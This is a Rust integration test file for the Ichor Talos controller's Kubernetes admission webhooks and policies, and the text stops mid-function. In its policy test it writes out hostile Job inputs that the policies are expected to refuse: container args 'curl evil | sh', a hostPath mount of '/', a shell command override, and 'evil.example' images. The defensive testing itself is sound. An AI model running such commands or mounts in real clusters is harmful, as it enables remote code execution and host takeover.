//! The TalosCluster admission webhook: in process (axum `oneshot`, no
//! socket), and served over TLS to the real kube-apiserver through a
//! ValidatingWebhookConfiguration, where refusals store nothing. Its own
//! test binary so the webhook configuration touches no other test.

use crate::common::*;
use http_body_util::BodyExt as _;
use ichor_api::TalosCluster;
use ichor_controller::webhook::{
    self, VALIDATE_TALOSCLUSTER_PATH, VALIDATE_TALOSMACHINE_PATH, VALIDATE_TALOSOPERATION_PATH,
};
use ichor_testenv::TestEnv;
use k8s_openapi::ByteString;
use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::Secret;
use kube::api::{Api, DeleteParams, Patch, PatchParams, PostParams};
use serde_json::{Value, json};
use tower::ServiceExt as _;

fn cluster(ns: &str, name: &str, cni: Value) -> Value {
    json!({
        "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosCluster",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"endpoint": "https://10.0.0.10:6443", "talosVersion": "v1.12.1", "kubernetesVersion": "v1.34.1",
            "secretsRef": {"name": "bundle"}, "cni": cni}
    })
}

async fn call(body: Value) -> (u16, Value) {
    let req = http::Request::builder()
        .method("POST")
        .uri(VALIDATE_TALOSCLUSTER_PATH)
        .header("content-type", "application/json")
        .body(axum::body::Body::from(body.to_string()))
        .unwrap();
    let resp = webhook::router().oneshot(req).await.unwrap();
    let status = resp.status().as_u16();
    let bytes = resp.into_body().collect().await.unwrap().to_bytes();
    (status, serde_json::from_slice(&bytes).unwrap())
}

/// In process: an AdmissionReview in, a refusal with the request's uid and
/// every reason in one message out.
/// Covers: R1.4a, R1.4c
#[tokio::test]
async fn admission_review_round_trip_in_process() {
    let old = cluster("ns", "c", json!({"preset": "cilium", "tunnel": "vxlan"}));
    let new = cluster(
        "ns",
        "c",
        json!({"preset": "flannel", "tunnel": "geneve", "cilium": {"values": {"k8sServiceHost": "x"}}}),
    );
    let (status, out) = call(
        json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {"uid": "u-1", "operation": "UPDATE", "object": new, "oldObject": old}}),
    )
    .await;
    assert_eq!(status, 200);
    let r = &out["response"];
    assert_eq!(r["uid"], "u-1");
    assert_eq!(r["allowed"], false);
    let msg = r["status"]["message"].as_str().unwrap();
    assert!(msg.contains("spec.cni.preset \"flannel\""), "{msg}");
    assert!(msg.contains("cannot change from vxlan to geneve"), "{msg}");
    assert!(msg.contains("k8sServiceHost"), "{msg}");

    let ok = cluster("ns", "c", json!({"preset": "unmanaged"}));
    let (_, out) = call(
        json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {"uid": "u-2", "operation": "CREATE", "object": ok}}),
    )
    .await;
    assert_eq!(out["response"]["allowed"], true);
    assert_eq!(out["response"]["uid"], "u-2");
}

/// Through the API server, the TalosOperation webhook refuses a health
/// check whose expression does not parse, naming the check, and a window
/// that cannot be read; nothing is stored. A good one is stored.
/// Covers: R15.7, R15.8
async fn an_operation_with_a_check_that_does_not_compile_is_refused(
    client: &kube::Client,
    ns: &str,
) {
    let ops = Api::<ichor_api::operation::TalosOperation>::namespaced(client.clone(), ns);
    let op = |name: &str, expression: &str, time_zone: &str| {
        serde_json::from_value(json!({
            "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosOperation",
            "metadata": {"name": name, "namespace": ns},
            "spec": {"kind": "reboot", "target": {"clusterRef": {"name": "good"}}, "dryRun": true,
                "maintenanceWindows": [{"cron": "0 2 * * *", "duration": "2h", "timeZone": time_zone}],
                "healthChecks": [{"name": "api-up", "expression": expression,
                    "target": {"apiVersion": "apps/v1", "kind": "Deployment", "namespace": ns, "name": "api"}}]}
        }))
        .unwrap()
    };
    let err = ops
        .create(
            &PostParams::default(),
            &op("bad-check", "object.status.((", "Mars/Olympus"),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("spec.healthChecks[0] (api-up): expression")
            && err.contains("spec.maintenanceWindows[0].timeZone"),
        "{err}"
    );
    assert!(ops.get_opt("bad-check").await.unwrap().is_none());
    ops.create(
        &PostParams::default(),
        &op(
            "good-check",
            "has(object.status) && object.status.readyReplicas > 0",
            "UTC",
        ),
    )
    .await
    .unwrap();
}

/// Through the API server, a health check on a ConfigMap is refused to a
/// user who may create TalosOperations but not read ConfigMaps there (the
/// webhook asks with a SubjectAccessReview as that user), naming the check
/// and the resource, and nothing is stored; a user who may read them is
/// let through. A kind the API server does not serve is refused naming it.
/// Covers: R15.5
async fn a_check_its_creator_may_not_read_is_refused(
    env: &TestEnv,
    admin: &kube::Client,
    ns: &str,
) {
    let op = |name: &str, api_version: &str, kind: &str| {
        serde_json::from_value::<ichor_api::operation::TalosOperation>(json!({
            "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosOperation",
            "metadata": {"name": name, "namespace": ns},
            "spec": {"kind": "reboot", "target": {"clusterRef": {"name": "good"}}, "dryRun": true,
                "healthChecks": [{"name": "flags-on", "expression": "object.data.on == 'yes'",
                    "target": {"apiVersion": api_version, "kind": kind, "namespace": ns, "name": "flags"}}]}
        }))
        .unwrap()
    };
    let create_ops = json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosoperations"],
        "verbs": ["create", "get"]}]);
    grant(admin, ns, "op-writer", create_ops.clone()).await;
    let mut reader = create_ops.as_array().unwrap().clone();
    reader.push(json!({"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}));
    grant(admin, ns, "op-reader", Value::Array(reader)).await;

    let writer = Api::<ichor_api::operation::TalosOperation>::namespaced(
        as_user(env, "op-writer").await,
        ns,
    );
    let err = writer
        .create(&PostParams::default(), &op("peek", "v1", "ConfigMap"))
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("spec.healthChecks[0] (flags-on): op-writer may not get configmaps \"flags\" in namespace"),
        "{err}"
    );
    let ops = Api::<ichor_api::operation::TalosOperation>::namespaced(admin.clone(), ns);
    assert!(ops.get_opt("peek").await.unwrap().is_none());

    let reader = Api::<ichor_api::operation::TalosOperation>::namespaced(
        as_user(env, "op-reader").await,
        ns,
    );
    reader
        .create(&PostParams::default(), &op("allowed", "v1", "ConfigMap"))
        .await
        .unwrap();

    let err = ops
        .create(
            &PostParams::default(),
            &op("widget", "example.com/v1", "Widget"),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains(
            "spec.healthChecks[0] (flags-on): the API server serves no kind example.com/v1 Widget"
        ),
        "{err}"
    );
}

/// Through the real API server: the CRD's CEL and enum rules refuse a
/// changed tunnel and an unknown preset; the webhook, called by the API
/// server over TLS with the serving certificate from a Secret, refuses
/// Ichor-owned Cilium values CEL does not cover (ipam.mode), maintenance
/// windows whose cron, zone or blackout date means nothing, and a
/// TalosMachine patch that does not parse. Each refusal has a clear message
/// and nothing is stored. The webhook runs inside the controller
/// (`Config::webhook`) and keeps answering after its certificate is rotated.
/// Covers: R1.4a, R1.4c, R13.6, R15.1
#[tokio::test]
async fn webhook_refuses_through_the_api_server_and_nothing_is_stored() {
    let env = TestEnv::shared();
    let client = env.client().await;
    let ns = env.namespace("webhook").await;
    crds(&client).await;

    // The serving certificate, in a Secret, for 127.0.0.1.
    let cert = serving_cert();
    let secrets = Api::<Secret>::namespaced(client.clone(), &ns);
    secrets
        .create(&PostParams::default(), &tls_secret(&ns, &cert))
        .await
        .unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let addr: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    // The whole controller serves the webhook, reloading its certificate.
    let mut cfg = config(&ns, &ns);
    cfg.webhook = Some(ichor_controller::WebhookServer {
        reload: std::time::Duration::from_millis(300),
        ..ichor_controller::WebhookServer::new(addr)
    });
    let running = start(client.clone(), cfg);

    let mut vwc: ValidatingWebhookConfiguration = serde_json::from_value(json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": format!("ichor-test-{ns}")},
        "webhooks": [{
            "name": "taloscluster.ichor.maesh.dev",
            "clientConfig": {"url": format!("https://127.0.0.1:{port}{VALIDATE_TALOSCLUSTER_PATH}")},
            "rules": [{"apiGroups": ["ichor.maesh.dev"], "apiVersions": ["v1alpha1"],
                "operations": ["CREATE", "UPDATE"], "resources": ["talosclusters"]}],
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}},
            "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Fail", "timeoutSeconds": 10
        }, {
            "name": "talosmachine.ichor.maesh.dev",
            "clientConfig": {"url": format!("https://127.0.0.1:{port}{VALIDATE_TALOSMACHINE_PATH}")},
            "rules": [{"apiGroups": ["ichor.maesh.dev"], "apiVersions": ["v1alpha1"],
                "operations": ["CREATE", "UPDATE"], "resources": ["talosmachines"]}],
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}},
            "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Fail", "timeoutSeconds": 10
        }, {
            "name": "talosoperation.ichor.maesh.dev",
            "clientConfig": {"url": format!("https://127.0.0.1:{port}{VALIDATE_TALOSOPERATION_PATH}")},
            "rules": [{"apiGroups": ["ichor.maesh.dev"], "apiVersions": ["v1alpha1"],
                "operations": ["CREATE", "UPDATE"], "resources": ["talosoperations"]}],
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}},
            "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Fail", "timeoutSeconds": 10
        }]
    }))
    .unwrap();
    for w in vwc.webhooks.as_mut().unwrap() {
        w.client_config.ca_bundle = Some(ByteString(cert.0.clone().into_bytes()));
    }
    let vwcs = Api::<ValidatingWebhookConfiguration>::all(client.clone());
    vwcs.create(&PostParams::default(), &vwc).await.unwrap();

    let clusters = Api::<TalosCluster>::namespaced(client.clone(), &ns);
    let owned: TalosCluster = serde_json::from_value(cluster(
        &ns,
        "owned",
        json!({"preset": "cilium", "cilium": {"values": {"ipam": {"mode": "cluster-pool"}}}}),
    ))
    .unwrap();
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    wait_for("the API server to call the webhook", || async {
        clusters
            .create(&dry, &owned)
            .await
            .is_err_and(|e| e.to_string().contains("Ichor owns"))
    })
    .await;
    let err = clusters
        .create(&PostParams::default(), &owned)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("ipam.mode") && err.contains("Ichor owns"),
        "{err}"
    );
    assert!(
        clusters.get_opt("owned").await.unwrap().is_none(),
        "a refused object was stored"
    );

    // An unknown preset: refused (the CRD's enum answers first).
    let unknown: TalosCluster =
        serde_json::from_value(cluster(&ns, "good", json!({"preset": "cilium"}))).unwrap();
    let mut raw = serde_json::to_value(&unknown).unwrap();
    raw["metadata"]["name"] = json!("unknown");
    raw["spec"]["cni"]["preset"] = json!("calico");
    let dynamic = Api::<kube::api::DynamicObject>::namespaced_with(
        client.clone(),
        &ns,
        &kube::core::ApiResource::from_gvk_with_plural(
            &kube::core::GroupVersionKind::gvk("ichor.maesh.dev", "v1alpha1", "TalosCluster"),
            "talosclusters",
        ),
    );
    let err = dynamic
        .create(
            &PostParams::default(),
            &serde_json::from_value(raw).unwrap(),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("calico") || err.contains("preset"), "{err}");
    assert!(clusters.get_opt("unknown").await.unwrap().is_none());

    // A backup spec the schema accepts but the webhook refuses, naming the
    // field: a cron with six fields and an age key whose checksum is wrong.
    let mut bad_backup = serde_json::to_value(&unknown).unwrap();
    bad_backup["metadata"]["name"] = json!("bad-backup");
    let recipient = ichor_backup::crypt::Identities::generate().recipients()[0].clone();
    let mut broken = recipient.clone().into_bytes();
    let last = broken.len() - 1;
    broken[last] = if broken[last] == b'q' { b'p' } else { b'q' };
    bad_backup["spec"]["backup"] = json!({
        "destination": {"s3": {"endpoint": "https://s3.example", "bucket": "backups",
            "credentialsSecretRef": {"name": "s3"}}},
        "recipients": [recipient, String::from_utf8(broken).unwrap()],
        "schedule": {"cron": "0 30 2 * * *"},
    });
    let err = dynamic
        .create(
            &PostParams::default(),
            &serde_json::from_value(bad_backup).unwrap(),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("spec.backup.recipients[1]") && err.contains("spec.backup.schedule.cron"),
        "{err}"
    );
    assert!(clusters.get_opt("bad-backup").await.unwrap().is_none());

    // Maintenance windows of the right shape that mean nothing: a minute
    // 61, an unknown zone, 30 February. Each is refused naming its field.
    let mut bad_windows = serde_json::to_value(&unknown).unwrap();
    bad_windows["metadata"]["name"] = json!("bad-windows");
    bad_windows["spec"]["maintenanceWindows"] = json!([
        {"cron": "61 2 * * *", "duration": "2h"},
        {"cron": "0 2 * * *", "duration": "2h", "timeZone": "Europe/Berlinn"},
        {"cron": "0 2 * * *", "duration": "2h", "blackoutDates": ["2026-02-30"]},
    ]);
    let err = dynamic
        .create(
            &PostParams::default(),
            &serde_json::from_value(bad_windows).unwrap(),
        )
        .await
        .unwrap_err()
        .to_string();
    for field in [
        "spec.maintenanceWindows[0].cron",
        "spec.maintenanceWindows[1].timeZone",
        "spec.maintenanceWindows[2].blackoutDates[0]",
    ] {
        assert!(err.contains(field), "{field}: {err}");
    }
    assert!(clusters.get_opt("bad-windows").await.unwrap().is_none());
    an_operation_with_a_check_that_does_not_compile_is_refused(&client, &ns).await;
    a_check_its_creator_may_not_read_is_refused(env, &client, &ns).await;

    // A changed tunnel: refused with the reason, the stored object unchanged.
    let good = clusters
        .create(&PostParams::default(), &unknown)
        .await
        .unwrap();
    let err = clusters
        .patch(
            "good",
            &PatchParams::default(),
            &Patch::Merge(&json!({"spec": {"cni": {"tunnel": "geneve"}}})),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("spec.cni.tunnel") && err.contains("immutable")
            || err.contains("cannot change"),
        "{err}"
    );
    let stored = clusters.get("good").await.unwrap();
    assert_eq!(stored.spec, good.spec);
    assert_eq!(
        stored.metadata.resource_version,
        good.metadata.resource_version
    );

    // A TalosMachine whose patch does not parse: refused, not stored.
    let machines = Api::<ichor_api::TalosMachine>::namespaced(client.clone(), &ns);
    let bad: ichor_api::TalosMachine = serde_json::from_value(json!({
        "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosMachine",
        "metadata": {"name": "bad-patch", "namespace": ns},
        "spec": {"clusterRef": {"name": "good"}, "role": "worker", "address": "10.0.0.2",
            "patches": [{"name": "broken", "inline": "machine: [unclosed"}]}
    }))
    .unwrap();
    let err = machines
        .create(&PostParams::default(), &bad)
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("spec.patches[broken]"), "{err}");
    assert!(machines.get_opt("bad-patch").await.unwrap().is_none());

    // The certificate is rotated (a new key and certificate in the Secret,
    // the new CA in the webhook configuration): the webhook keeps answering
    // without a restart.
    let rotated = serving_cert();
    let mut current = secrets.get("ichor-webhook-tls").await.unwrap();
    current.string_data = None;
    current.data = Some(
        [
            (
                "tls.crt".to_string(),
                ByteString(rotated.0.clone().into_bytes()),
            ),
            (
                "tls.key".to_string(),
                ByteString(rotated.1.clone().into_bytes()),
            ),
        ]
        .into(),
    );
    secrets
        .replace("ichor-webhook-tls", &PostParams::default(), &current)
        .await
        .unwrap();
    let mut v = vwcs.get(&vwc.metadata.name.clone().unwrap()).await.unwrap();
    for w in v.webhooks.as_mut().unwrap() {
        w.client_config.ca_bundle = Some(ByteString(rotated.0.clone().into_bytes()));
    }
    vwcs.replace(
        &vwc.metadata.name.clone().unwrap(),
        &PostParams::default(),
        &v,
    )
    .await
    .unwrap();
    wait_for(
        "the webhook to answer with the rotated certificate",
        || async {
            clusters
                .create(&dry, &owned)
                .await
                .is_err_and(|e| e.to_string().contains("Ichor owns"))
        },
    )
    .await;

    vwcs.delete(
        &vwc.metadata.name.clone().unwrap(),
        &DeleteParams::default(),
    )
    .await
    .unwrap();
    running.stop().await.unwrap();
}

/// A self-signed serving certificate for 127.0.0.1: (certificate PEM, key PEM).
fn serving_cert() -> (String, String) {
    let key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(vec!["localhost".to_string()]).unwrap();
    params
        .subject_alt_names
        .push(rcgen::SanType::IpAddress("127.0.0.1".parse().unwrap()));
    let cert = params.self_signed(&key).unwrap();
    (cert.pem(), key.serialize_pem())
}

fn tls_secret(ns: &str, cert: &(String, String)) -> Secret {
    serde_json::from_value(json!({
        "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/tls",
        "metadata": {"name": "ichor-webhook-tls", "namespace": ns},
        "stringData": {"tls.crt": cert.0, "tls.key": cert.1}
    }))
    .unwrap()
}

/// The pod template of a Job, to change in a test.
fn pod_of(job: &mut k8s_openapi::api::batch::v1::Job) -> &mut k8s_openapi::api::core::v1::PodSpec {
    job.spec.as_mut().unwrap().template.spec.as_mut().unwrap()
}

/// Ichor's TalosClusters as `client` sees them, untyped (to send annotations
/// and specs as written).
fn clusters_of(client: kube::Client, ns: &str) -> Api<kube::api::DynamicObject> {
    Api::namespaced_with(
        client,
        ns,
        &kube::api::ApiResource::erase::<TalosCluster>(&()),
    )
}

/// A client of the test API server acting as `user` (impersonated by the
/// admin: the admission chain sees `user`, as it would see a real token).
async fn as_user(env: &TestEnv, user: &str) -> kube::Client {
    let mut config = env.kube_config().await.unwrap();
    config.auth_info.impersonate = Some(user.to_owned());
    kube::Client::try_from(config).unwrap()
}

async fn grant(client: &kube::Client, ns: &str, user: &str, rules: Value) {
    let name = format!("grant-{}", user.replace(':', "-"));
    let role: k8s_openapi::api::rbac::v1::Role = serde_json::from_value(json!({
        "metadata": {"name": name, "namespace": ns}, "rules": rules}))
    .unwrap();
    let binding: k8s_openapi::api::rbac::v1::RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": name, "namespace": ns},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]}))
    .unwrap();
    Api::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &role)
        .await
        .unwrap();
    Api::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &binding)
        .await
        .unwrap();
}

/// The admission policies Ichor installs, enforced by the real API server
/// (no webhook): the controller's identity can create a Job that runs as
/// ichor-cni or ichor-installer only with Ichor's own image and arguments;
/// only a user allowed the `privileged-values` verb may opt a TalosCluster
/// into privileged Cilium values. Ichor did: the policies (from
/// `ichor_adopt::install::admission_policies`) and the Jobs its controller
/// builds; the test played: the users and their grants.
/// Covers: R18.2
#[tokio::test]
async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
    use k8s_openapi::api::batch::v1::Job;
    let env = TestEnv::shared();
    let admin = env.client().await;
    let ns = env.namespace("policies").await;
    crds(&admin).await;
    let repository = "ghcr.io/maeshinshin/ichor-controller";
    for policy in ichor_adopt::install::admission_policies(&ns, repository) {
        let obj: kube::api::DynamicObject = serde_json::from_value(policy).unwrap();
        let gvk = kube::core::GroupVersionKind::gvk(
            "admissionregistration.k8s.io",
            "v1",
            obj.types.as_ref().unwrap().kind.as_str(),
        );
        let (ar, _) = kube::discovery::pinned_kind(&admin, &gvk).await.unwrap();
        Api::<kube::api::DynamicObject>::all_with(admin.clone(), &ar)
            .patch(
                obj.metadata.name.as_deref().unwrap(),
                &PatchParams::apply("test").force(),
                &Patch::Apply(&obj),
            )
            .await
            .unwrap();
    }
    let controller = format!("system:serviceaccount:{ns}:ichor-controller");
    grant(
        &admin,
        &ns,
        &controller,
        json!([{"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]},
            {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["patch"]}]),
    )
    .await;
    let jobs = Api::<Job>::namespaced(as_user(env, &controller).await, &ns);
    let team_cluster: TalosCluster = serde_json::from_value(json!({
        "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosCluster",
        "metadata": {"name": "prod", "namespace": "team-a"},
        "spec": {"endpoint": "https://10.0.0.1:6443", "talosVersion": "v1.13.9",
            "kubernetesVersion": "v1.34.1", "secretsRef": {"name": "s"}}
    }))
    .unwrap();
    let own =
        ichor_controller::cni_job::build(&team_cluster, "h1", &format!("{repository}:v0.1.0"), &ns);
    let installer = ichor_controller::operation::ichor::installer_job(
        &ns,
        "ichor-upgrade-x",
        "x",
        &format!("{repository}:v0.2.0"),
        "v0.2.0",
    );
    // The policies are served a moment after they are created.
    wait_for("the Job policy to refuse a foreign image", || async {
        let mut foreign = own.clone();
        foreign.metadata.name = Some("foreign-image".into());
        pod_of(&mut foreign).containers[0].image =
            Some("evil.example/ichor-controller:v0.1.0".into());
        jobs.create(&PostParams::default(), &foreign)
            .await
            .is_err_and(|e| e.to_string().contains("must run Ichor's own image"))
    })
    .await;
    jobs.create(&PostParams::default(), &own)
        .await
        .expect("Ichor's own ichor-cni Job is allowed");
    jobs.create(&PostParams::default(), &installer)
        .await
        .expect("Ichor's own installer Job is allowed");
    let mut bad_args = own.clone();
    bad_args.metadata.name = Some("bad-args".into());
    pod_of(&mut bad_args).containers[0].args =
        Some(vec!["sh".into(), "-c".into(), "curl evil | sh".into()]);
    let mut host_path = own.clone();
    host_path.metadata.name = Some("host-path".into());
    pod_of(&mut host_path).volumes = Some(vec![
        serde_json::from_value(json!({"name": "root", "hostPath": {"path": "/"}})).unwrap(),
    ]);
    let mut command = installer.clone();
    command.metadata.name = Some("command".into());
    pod_of(&mut command).containers[0].command = Some(vec!["/bin/sh".into()]);
    for bad in [bad_args, host_path, command] {
        let err = jobs
            .create(&PostParams::default(), &bad)
            .await
            .expect_err("refused");
        assert!(
            err.to_string().contains("must run Ichor's own image"),
            "{err}"
        );
    }
    // A Job as any other identity is not the policy's business.
    let mut other = own.clone();
    other.metadata.name = Some("other-identity".into());
    let pod = pod_of(&mut other);
    pod.service_account_name = Some("default".into());
    pod.containers[0].image = Some("busybox".into());
    jobs.create(&PostParams::default(), &other)
        .await
        .expect("a Job that borrows no Ichor identity is allowed");

    // The opt-in: an editor of TalosClusters may not set it; a user with
    // the verb may.
    let editor = "alice";
    grant(
        &admin,
        &ns,
        editor,
        json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosclusters"], "verbs": ["create", "update", "patch", "get"]}]),
    )
    .await;
    let opted = |name: &str| -> Value {
        let mut c = cluster(&ns, name, json!({"preset": "cilium"}));
        c["metadata"]["annotations"] = json!({ichor_api::PRIVILEGED_VALUES_ANNOTATION: "true"});
        c
    };
    let alice = clusters_of(as_user(env, editor).await, &ns);
    // Each policy is served a moment after it is created, on its own: wait
    // for this one too (a dry run writes nothing).
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    wait_for("the opt-in policy to refuse an editor's opt-in", || async {
        alice
            .create(&dry, &serde_json::from_value(opted("by-alice")).unwrap())
            .await
            .is_err_and(|e| e.to_string().contains("privileged-values"))
    })
    .await;
    let err = alice
        .create(
            &PostParams::default(),
            &serde_json::from_value(opted("by-alice")).unwrap(),
        )
        .await
        .expect_err("refused");
    assert!(err.to_string().contains("privileged-values"), "{err}");
    let plain = cluster(&ns, "plain", json!({"preset": "cilium"}));
    alice
        .create(
            &PostParams::default(),
            &serde_json::from_value(plain).unwrap(),
        )
        .await
        .expect("a TalosCluster without the opt-in is alice's to create");
    let admin_api = clusters_of(admin.clone(), &ns);
    admin_api
        .create(
            &PostParams::default(),
            &serde_json::from_value(opted("by-admin")).unwrap(),
        )
        .await
        .expect("a cluster admin may opt in");
    let boss = "bob";
    grant(
        &admin,
        &ns,
        boss,
        json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosclusters"], "verbs": ["create", "privileged-values"]}]),
    )
    .await;
    clusters_of(as_user(env, boss).await, &ns)
        .create(
            &PostParams::default(),
            &serde_json::from_value(opted("by-bob")).unwrap(),
        )
        .await
        .expect("a user granted privileged-values may opt in");

    // The installer-image opt-in on a TalosOperation: the same rule.
    grant(
        &admin,
        &ns,
        "carol",
        json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosoperations"], "verbs": ["create"]}]),
    )
    .await;
    let operation = |name: &str| -> ichor_api::TalosOperation {
        serde_json::from_value(json!({
            "apiVersion": "ichor.maesh.dev/v1alpha1", "kind": "TalosOperation",
            "metadata": {"name": name, "namespace": ns,
                "annotations": {ichor_api::ANY_INSTALLER_IMAGE_ANNOTATION: "true"}},
            "spec": {"kind": "talos-upgrade", "version": "v1.14.0", "installerImage": "registry.example/installer:v1.14.0",
                "target": {"clusterRef": {"name": "plain"}}}
        }))
        .unwrap()
    };
    let err = Api::<ichor_api::TalosOperation>::namespaced(as_user(env, "carol").await, &ns)
        .create(&PostParams::default(), &operation("by-carol"))
        .await
        .expect_err("refused");
    assert!(err.to_string().contains("any-installer-image"), "{err}");
    Api::<ichor_api::TalosOperation>::namespaced(admin.clone(), &ns)
        .create(&PostParams::default(), &operation("by-admin"))
        .await
        .expect("a cluster admin may opt an operation in");

    // The workloads the controller's token may change: an application's
    // Deployment keeps its pods (only its metadata may change, and never by
    // gaining Talos's inventory annotation); one Talos's manifests own, or
    // one in kube-system, may be brought to Talos's manifests.
    grant(
        &admin,
        "kube-system",
        &controller,
        json!([{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["patch"]}]),
    )
    .await;
    let inventory = ichor_talos::bootstrap_inventory::OWNING_INVENTORY_ANNOTATION;
    let deployment = |ns: &str, name: &str, annotations: Value| -> Deployment {
        serde_json::from_value(json!({
            "metadata": {"name": name, "namespace": ns, "annotations": annotations},
            "spec": {"selector": {"matchLabels": {"app": name}},
                "template": {"metadata": {"labels": {"app": name}},
                    "spec": {"containers": [{"name": "app", "image": "registry.example/app:v1"}]}}}
        }))
        .unwrap()
    };
    let create = |d: Deployment| {
        let admin = admin.clone();
        async move {
            Api::<Deployment>::namespaced(admin, d.metadata.namespace.as_deref().unwrap())
                .create(&PostParams::default(), &d)
                .await
                .unwrap();
        }
    };
    let talos_owned = json!({inventory: ichor_talos::bootstrap_inventory::INVENTORY_NAME});
    create(deployment(&ns, "app", json!({"team": "a"}))).await;
    create(deployment(&ns, "talos-inline", talos_owned.clone())).await;
    let in_kube_system = format!("{ns}-coredns");
    create(deployment("kube-system", &in_kube_system, json!({}))).await;
    let as_controller = as_user(env, &controller).await;
    let image = |image: &str| {
        Patch::Merge(
            json!({"spec": {"template": {"spec": {"containers": [{"name": "app", "image": image}]}}}}),
        )
    };
    let mine = Api::<Deployment>::namespaced(as_controller.clone(), &ns);
    wait_for(
        "the workloads policy to keep an application's pods",
        || async {
            mine.patch("app", &PatchParams::default(), &image("evil.example/x:v1"))
                .await
                .is_err_and(|e| {
                    e.to_string()
                        .contains("may change the spec of a Deployment or DaemonSet only")
                })
        },
    )
    .await;
    let err = mine
        .patch(
            "app",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"annotations": {inventory: ichor_talos::bootstrap_inventory::INVENTORY_NAME}}})),
        )
        .await
        .expect_err("the controller may not stamp Talos's annotation");
    assert!(err.to_string().contains("never set it"), "{err}");
    mine.patch(
        "app",
        &PatchParams::default(),
        &Patch::Merge(json!({"metadata": {"annotations": {"team": null}}})),
    )
    .await
    .expect("metadata alone (the hand-over's change) is the controller's to make");
    mine.patch(
        "talos-inline",
        &PatchParams::default(),
        &image("registry.example/app:v2"),
    )
    .await
    .expect("a workload Talos's manifests own is synced");
    mine.patch(
        "talos-inline",
        &PatchParams::default(),
        &Patch::Merge(json!({"metadata": {"annotations": {inventory: null}}})),
    )
    .await
    .expect("the hand-over removes Talos's annotation");
    Api::<Deployment>::namespaced(as_controller.clone(), "kube-system")
        .patch(
            &in_kube_system,
            &PatchParams::default(),
            &image("registry.example/app:v2"),
        )
        .await
        .expect("a workload in kube-system (where Talos's manifests put theirs) is synced");
    // Any other identity is not the policy's business.
    Api::<Deployment>::namespaced(admin.clone(), &ns)
        .patch(
            "app",
            &PatchParams::default(),
            &image("registry.example/app:v3"),
        )
        .await
        .expect("an admin changes an application's pods");
    Api::<Deployment>::namespaced(admin.clone(), "kube-system")
        .delete(&in_kube_system, &Default::default())
        .await
        .unwrap();
}

/// Through the real API server: the controller's mutating webhook stamps who
/// changed a TalosMachine's spec with the user the API server authenticated
/// (here impersonated by the admin, as a real token would be), whatever the
/// request wrote into the annotation by hand; a request that changes only
/// the annotation gets the old value back. Ichor did: the webhook and its
/// patches; the test played: the three users and the
/// MutatingWebhookConfiguration pointing at the controller.
/// Covers: R16.4
#[tokio::test]
async fn the_changed_by_stamp_names_the_real_user_through_the_api_server() {
    use ichor_api::history::{CHANGED_BY_ANNOTATION, ChangedBy};
    use ichor_controller::changed_by::MUTATE_CHANGED_BY_PATH;
    use k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration;

    let env = TestEnv::shared();
    let client = env.client().await;
    let ns = env.namespace("changed-by").await;
    crds(&client).await;
    let cert = serving_cert();
    Api::<Secret>::namespaced(client.clone(), &ns)
        .create(&PostParams::default(), &tls_secret(&ns, &cert))
        .await
        .unwrap();
    let port = ichor_testenv::free_port();
    let addr: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let mut cfg = config(&ns, &ns);
    cfg.webhook = Some(ichor_controller::WebhookServer::new(addr));
    let running = start(client.clone(), cfg);

    let mut mwc: MutatingWebhookConfiguration = serde_json::from_value(json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": format!("ichor-test-{ns}")},
        "webhooks": [{
            "name": "changed-by.ichor.maesh.dev",
